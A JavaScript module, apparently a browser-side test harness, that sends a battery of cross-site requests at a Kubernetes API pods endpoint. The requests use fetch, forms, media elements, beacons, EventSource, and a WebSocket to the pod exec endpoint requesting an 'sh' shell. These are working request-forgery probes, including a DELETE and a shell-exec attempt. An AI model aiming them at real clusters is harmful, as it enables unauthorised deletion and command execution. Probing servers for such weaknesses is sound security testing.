// What a page can send without asking anyone. Runs in the page; each attack ends when the browser has
// an answer, an error, or has waited long enough.

/** Sends everything to `target` (http://host:port). The answer: the names of what was tried. */
export async function attack(target) {
  const api = `${target}/api/v1/namespaces/default/pods`;
  const patience = 4000;
  const settled = (start) =>
    new Promise((resolve) => {
      setTimeout(resolve, patience);
      try {
        start(resolve);
      } catch {
        resolve();
      }
    });
  const element = (name, attributes) =>
    settled((done) => {
      const made = Object.assign(document.createElement(name), attributes);
      made.onload = made.onerror = done;
      document.body.append(made);
    });
  const send = (path, options) =>
    settled((done) => fetch(`${api}${path}`, options).then((answer) => answer.text()).then(done, done));
  const text = { "content-type": "text/plain" };
  const attacks = {
    "simple POST": () => send("?a=post", { method: "POST", mode: "no-cors", headers: text, body: "{}" }),
    "GET without CORS": () => send("?a=get", { mode: "no-cors" }),
    "GET with CORS and credentials": () => send("?a=cors", { credentials: "include" }),
    "POST of JSON, with a preflight": () =>
      send("?a=json", { method: "POST", headers: { "content-type": "application/json" }, body: "{}" }),
    "DELETE, with a preflight": () => send("/pod?a=delete", { method: "DELETE" }),
    image: () => element("img", { src: `${api}?a=img` }),
    script: () => element("script", { src: `${api}?a=script` }),
    "style sheet": () => element("link", { rel: "stylesheet", href: `${api}?a=style` }),
    frame: () => element("iframe", { src: `${api}?a=frame` }),
    video: () => element("video", { src: `${api}?a=video`, preload: "auto" }),
    beacon: () =>
      settled((done) => {
        navigator.sendBeacon(`${api}?a=beacon`, "{}");
        setTimeout(done, 500);
      }),
    "event source": () =>
      settled((done) => {
        const source = new EventSource(`${api}?watch=true&a=events`);
        source.onerror = source.onmessage = () => (source.close(), done());
      }),
    form: () =>
      settled((done) => {
        const frame = Object.assign(document.createElement("iframe"), { name: "into" });
        const form = Object.assign(document.createElement("form"), {
          action: `${api}?a=form`,
          method: "POST",
          enctype: "text/plain",
          target: "into",
        });
        form.append(Object.assign(document.createElement("input"), { name: "a", value: "b" }));
        document.body.append(frame, form);
        // The empty frame has loaded already.
        setTimeout(() => {
          frame.onload = done;
          form.submit();
        }, 100);
      }),
    WebSocket: () =>
      settled((done) => {
        const url = `${api}/pod/exec?command=sh&stdin=true`.replace("http:", "ws:");
        const socket = new WebSocket(url, ["v5.channel.k8s.io"]);
        socket.onopen = () => (socket.close(), done());
        socket.onerror = done;
      }),
  };
  for (const start of Object.values(attacks)) {
    await start();
  }
  return Object.keys(attacks);
}
